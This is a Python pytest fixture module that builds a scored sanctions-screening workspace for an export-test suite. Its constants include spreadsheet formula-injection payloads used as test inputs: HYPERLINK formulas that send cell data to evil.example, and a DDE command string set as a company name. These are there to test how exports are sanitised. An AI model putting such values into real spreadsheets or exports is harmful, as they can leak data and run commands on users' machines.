"""One real workspace for the export tests: the CSL excerpt, a list CSV with spreadsheet formulas
for names, the bundled demo world, a listed company and a hostile-named company it owns —
ingested, resolved and scored through the product's own pipeline (a few seconds)."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from chipwatch.settings import PROJECT_ROOT, Settings
from graph.resolve.run import resolve
from graph.risk.run import compute_risk
from ingest.lists.pipeline import ingest_list_files
from ingest.trade.graph_sync import ingest_demo_world, sync_trade_graph
from ingest.trade.load import ingest_trade_file

FIXTURES = PROJECT_ROOT / "tests" / "fixtures" / "export"
CSL = PROJECT_ROOT / "tests" / "fixtures" / "lists_pipeline" / "csl_v2.csv"
HOSTILE_LIST = FIXTURES / "hostile_list.csv"
#: After the BIS Affiliates rule's suspension ends (2026-11-10), so ownership under it counts.
AS_OF = dt.date(2026, 11, 15)
HOSTILE_NAME = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")'
HOSTILE_COMPANY = "-2+3+cmd|' /C calc'!A0"
LISTED_COMPANY = "co:export test:EXP001"
OWNED_COMPANY = "co:export test:EXP002"
MEU_ENTRY = "list:US_MEU:MEU:66f6ab3f26234b75a9093fce79ef0ce0"
#: The CSL excerpt's DTC row, no type published: ingest reads "Cesareo Estanislao Benitez" as a person.
DTC_PERSON = "list:US_DTC:DTC:34d6611355974b0ba70eba9a096971f8"
#: A list entry whose kind was read from its name, with evidence a spreadsheet would evaluate (a
#: store written by another tool or edited by hand): for the small risk world of tests/graph/risk.
NAME_KIND_ENTRY = {
    "id": "list:US_EL:P1",
    "name": "IVAN PETROV",
    "list": "US_EL",
    "status": "active",
    "countries": ["RU"],
    "entity_kind": "person",
    "kind_source": "name",
    "kind_evidence": '=HYPERLINK("http://evil.example/?d="&A1,"why")',
}


def build_export_workspace(workspace: Path) -> Settings:
    settings = Settings(workspace=workspace)
    ingest_list_files(settings, [CSL])
    ingest_list_files(settings, [HOSTILE_LIST])
    ingest_demo_world(settings, graph=False)
    for kind in ("companies", "ownership"):
        ingest_trade_file(settings, kind, FIXTURES / f"{kind}.csv", source="export test")
    sync_trade_graph(settings)
    resolve(settings)
    compute_risk(settings, AS_OF)
    return settings


@pytest.fixture(scope="session")
def export_settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """The scored workspace (read-only for tests: copy it before changing anything)."""
    return build_export_workspace(tmp_path_factory.mktemp("export-workspace"))
